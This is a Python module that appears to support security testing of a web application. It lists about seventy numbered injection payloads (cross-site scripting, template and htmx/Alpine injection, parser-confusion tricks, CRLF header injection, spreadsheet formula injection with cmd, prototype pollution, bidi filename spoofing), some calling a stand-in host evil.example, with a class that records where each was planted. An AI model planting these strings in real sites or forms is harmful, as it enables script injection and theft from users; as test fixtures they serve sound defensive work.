"""What people plant to have a page execute, open or pretend something. Each carries a number.

`{n}` is that number: what runs sets `window.__hit` to it or asks for `/hit-{n}`, what becomes an
element has the id `hit-{n}`. A text that is only shown shows the number too.
"""

from typing import Final

_PLAIN: Final = (
    # Scripts and elements.
    "<script>window.__hit={n}</script>",
    "<SCRIPT SRC=//evil.example/hit-{n}.js></SCRIPT>",
    "<script type=module>import('/hit-{n}')</script>",
    "<img src=x onerror=window.__hit={n} id=hit-{n}>",
    "<svg onload=window.__hit={n} id=hit-{n}>",
    "<svg/onload=window.__hit={n}//",
    "<details open ontoggle=window.__hit={n} id=hit-{n}>",
    "<iframe src=javascript:parent.__hit={n} id=hit-{n}></iframe>",
    "<object data=/hit-{n}></object><embed src=/hit-{n}>",
    "<link rel=stylesheet href=/hit-{n}><base href=//evil.example/hit-{n}/>",
    '<meta http-equiv=refresh content="0;url=/hit-{n}">',
    '<a href="javascript:window.__hit={n}" id=hit-{n}>press</a>',
    '<form action="//evil.example/hit-{n}"><input type=submit id=hit-{n}></form>',
    # Out of an attribute, with each quote and with none.
    '"><img src=/hit-{n} onerror="window.__hit={n}">',
    "'><img src=/hit-{n} onerror='window.__hit={n}'>",
    "`><img src=`/hit-{n}` onerror=`window.__hit={n}`>",
    '" onmouseover="window.__hit={n}" autofocus onfocus="window.__hit={n}" x="',
    "' onmouseover='window.__hit={n}' autofocus onfocus='window.__hit={n}' x='",
    "x onfocus=window.__hit={n} autofocus tabindex=1 id=hit-{n}",
    # Addresses.
    "javascript:window.__hit={n}",
    "JaVaScRiPt:window.__hit={n}",
    "java\tscript:window.__hit={n}",
    "java\nscript:window.__hit={n}",
    "\x01javascript:alert({n})",
    "&#106;avascript:window.__hit={n}",
    "javascript&colon;window.__hit={n}",
    "data:text/html,<script>opener.__hit={n}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#hit-{n}",
    "vbscript:msgbox({n})",
    "//evil.example/hit-{n}",
    "../../../hit-{n}/%2e%2e%2f%00",
    # Templates, of the server and of the page, and what Alpine and htmx take for theirs.
    "{{constructor.constructor('alert({n})')()}}",
    "{{ 7|add:{n} }}{% debug %}{% include 'hit-{n}' %}",
    "${window.__hit={n}} #{alert({n})} <%= {n} %>",
    '<div x-data="{a: 1}" x-init="window.__hit={n}" id=hit-{n}></div>',
    '" x-data x-init="window.__hit={n}" x-html="\'<img src=x onerror=alert({n})>\'',
    '" @click="window.__hit={n}" :class="window.__hit={n}',
    '<b hx-get="/hit-{n}" hx-trigger="load" id=hit-{n}></b>',
    '" hx-get="/hit-{n}" hx-trigger="load" hx-on:htmx:load="window.__hit={n}',
    "' hx-on::after-request='window.__hit={n}' hx-vals='js:{a:alert({n})}",
    # Out of what a parser reads otherwise.
    "</script><script>window.__hit={n}</script>",
    "</title><script>window.__hit={n}</script>",
    "</textarea></option></select><script>window.__hit={n}</script>",
    "</pre></style></svg></details><img src=x onerror=window.__hit={n}>",
    "]]><script>window.__hit={n}</script>",
    "--><script>window.__hit={n}</script><!--",
    '<noscript><p title="</noscript><img src=x onerror=window.__hit={n}>">',
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert({n})&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__hit={n}>",
    '<svg><foreignObject><iframe srcdoc="<script>parent.__hit={n}</script>" id=hit-{n}>'
    "</iframe></foreignObject></svg>",
    '<svg><a xlink:href="javascript:window.__hit={n}" id=hit-{n}><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=window.__hit={n} attributeName=x dur=1s></svg>",
    # Styles.
    "<style>*{background:url(/hit-{n})}</style>",
    '" style="background:url(/hit-{n});position:fixed;inset:0',
    "width:expression(alert({n}));background:url(javascript:alert({n}))",
    # Characters that mislead, end a text early, or hide.
    "invoice\u202egpj.{n}.exe\u202c",
    "\u2066\u2067{n}\u2069 hit\u200b\ufeff",
    "<scr\0ipt>window.__hit={n}</scr\0ipt>",
    "hit-{n}\x1b[31m\x07\x08\x7f\x85",
    "hit-{n}\r\nX-Injected: hit={n}\r\n\r\n<script>window.__hit={n}</script>",
    "\uff1cimg src=x onerror=alert({n})\uff1e",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
    # Other formats.
    '=HYPERLINK("http://evil.example/hit-{n}","x")',
    "@SUM(1+1)*cmd|' /C calc'!A{n}",
    '"}],"hit-{n}":{"__proto__":{"x":1}}',
    '\\"; window.__hit={n}; //\u2028window.__hit={n}',
)
LONG: Final = "W" * 1500 + "<img src=x onerror=window.__hit={n}>"
PAYLOADS: Final = (*_PLAIN, LONG)
# An id has 512 bytes at most, and a person's name is shorter still.
SHORT: Final = _PLAIN
# So many numbers a place has.
ROOM: Final = 100
_FIRST: Final = 7_000_000


class Places:
    """Gives each place where payloads are planted numbers of its own, and knows them again."""

    def __init__(self) -> None:
        self._names: dict[str, int] = {}
        self.planted: dict[int, str] = {}

    def number(self, name: str) -> int:
        return self._names.setdefault(name, len(self._names))

    def text(self, name: str, which: int) -> str:
        """Return one payload for a place, with its own number."""
        n = _FIRST + self.number(name) * ROOM + which
        self.planted[n] = PAYLOADS[which].replace("{n}", str(n))
        return self.planted[n]

    def texts(self, name: str, amount: int = len(PAYLOADS)) -> list[str]:
        """Return all payloads for a place."""
        return [self.text(name, which) for which in range(amount)]

    def place_of(self, n: int) -> str:
        return list(self._names)[(n - _FIRST) // ROOM]

    @property
    def names(self) -> set[str]:
        return set(self._names)
